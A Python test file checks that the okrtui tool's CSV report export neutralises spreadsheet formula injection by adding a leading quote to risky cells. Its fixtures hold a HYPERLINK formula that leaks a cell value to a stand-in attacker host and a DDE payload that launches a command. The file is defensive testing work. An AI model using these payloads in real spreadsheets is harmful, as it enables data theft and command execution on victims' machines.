"""Text from a shared file never runs as a spreadsheet formula in a CSV okrtui writes (issue 16, item 3)."""

from __future__ import annotations

import csv
import io
import os
import subprocess
import sys

import pytest

from okrtui.domain.spreadsheet import csv_text, safe_cell
from okrtui.storage.repository import Repository

HYPERLINK = '=HYPERLINK("http://evil.example/?d="&B2,"Click")'
DDE = "=cmd|' /C calc'!A0"


@pytest.mark.parametrize("text", ["=1+1", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "-", "+", "-x"])
def test_a_cell_that_would_run_gets_a_leading_quote(text):
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("value", ["-5", "0.55", "-0.1234", "+3", "1e+06", "-2.5E-3", ".5", "", "Grow = win", "a-b"])
def test_numbers_and_plain_text_stay_as_they_are(value):
    assert safe_cell(value) == value


def test_non_text_cells_pass_through():
    assert [safe_cell(v) for v in (-5, 0.55, None)] == [-5, 0.55, None]
    assert csv_text([["=1", -5, "-5"]]) == "'=1,-5,-5\r\n"


def test_report_csv_neutralises_hostile_titles_and_notes_and_keeps_numbers(demo_path):
    repo = Repository(demo_path)
    objective = repo.add_objective(quarter=repo.load().objectives[0].quarter, title=DDE, team="@team", owner="+ann")
    kr = repo.add_key_result(objective.id, title="-1+evil", kind="decrease", unit="bugs", start=-5, target=-20)
    repo.record_checkin(kr.id, -8, note=HYPERLINK)
    done = subprocess.run([sys.executable, "-m", "okrtui", "report", "--db", str(demo_path), "--format", "csv"],
                          capture_output=True, text=True, env={**os.environ, "OKRTUI_LANG": "en"}, timeout=60)
    assert done.returncode == 0, done.stderr
    rows = list(csv.DictReader(io.StringIO(done.stdout.removeprefix("\ufeff"), newline="")))
    row = next(r for r in rows if r["kr_id"] == str(kr.id))
    assert row["objective"] == "'" + DDE
    assert row["team"] == "'@team" and row["objective_owner"] == "'+ann"
    assert row["kr"] == "'-1+evil"
    assert row["latest_note"] == "'" + HYPERLINK
    assert (row["start"], row["target"], row["current"]) == ("-5", "-20", "-8")  # numbers stay numbers
    assert float(row["kr_progress"]) == pytest.approx(0.2)
    assert not any(cell.startswith(("=", "+", "@")) for r in rows for cell in r.values())
